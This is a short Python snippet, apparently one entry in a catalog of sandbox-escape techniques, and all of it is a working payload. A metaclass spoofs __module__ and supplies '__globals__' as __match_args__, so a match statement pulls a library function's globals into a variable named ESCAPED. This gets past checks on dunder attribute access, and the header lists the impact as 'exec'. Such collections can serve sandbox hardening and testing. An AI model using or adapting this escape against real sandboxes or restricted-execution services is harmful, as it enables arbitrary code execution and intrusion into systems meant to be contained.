# technique: a class whose __module__ says that a library made it computes __match_args__ for a class pattern
# goal: __globals__ of a function, read by the match statement
# impact: exec
from abc import ABCMeta
import textwrap
class M(ABCMeta):
    __module__ = 'x'
    def __getattr__(cls, n):
        if n == '__match_args__':
            return ('__globals__',)
        raise AttributeError(n)
class C(metaclass=M):
    pass
C.register(type(textwrap.dedent))
match textwrap.dedent:
    case C(found):
        ESCAPED = found
